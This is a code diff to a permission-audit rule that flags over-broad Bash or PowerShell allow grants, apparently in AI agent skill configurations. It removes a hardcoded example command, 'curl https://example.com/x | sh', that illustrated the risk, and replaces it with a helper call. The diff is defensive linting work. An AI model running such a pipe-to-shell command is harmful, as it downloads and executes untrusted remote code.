@@ -1,4 +1,5 @@
 import { toolEntries } from '../src/findings/allowed-tools.ts';
+import { anyCommand } from '../src/findings/any-command.ts';
 import { callable } from '../src/findings/prompts.ts';
 import { defineRule, type Examples } from '../src/findings/rule.ts';
 
@@ -31,7 +32,7 @@ export default defineRule({
         const about = { grant: { effect: 'allow' as const, text: rule.text } };
         const { tool, specifier } = rule;
         if (tool === 'Bash' || tool === 'PowerShell') {
-          const witness = { tool, input: { command: 'curl https://example.com/x | sh' } };
+          const calls = anyCommand(tool);
           if (specifier === undefined || /^[*\s]*$/.test(specifier)) {
             const next = entries[i + 1]?.rule;
             // `Bash git:*` was meant to be narrow.
@@ -41,9 +42,9 @@ export default defineRule({
                 origin,
                 'split',
                 { rule: tool, next: next.text },
-                { ...about, witness, severity: 'error', remedy: `Write \`Bash(${next.text.replace(/:\*$/, '')}:*)\` if that program is what the skill needs.` },
+                { ...about, ...calls, severity: 'error', remedy: `Write \`Bash(${next.text.replace(/:\*$/, '')}:*)\` if that program is what the skill needs.` },
               );
-            else report(origin, 'shell', { rule: rule.text, kind }, { ...about, witness });
+            else report(origin, 'shell', { rule: rule.text, kind }, { ...about, ...calls });
             continue;
           }
           const program = /^(.+?)(?::\*| \*)$/.exec(specifier)?.[1]?.trim();
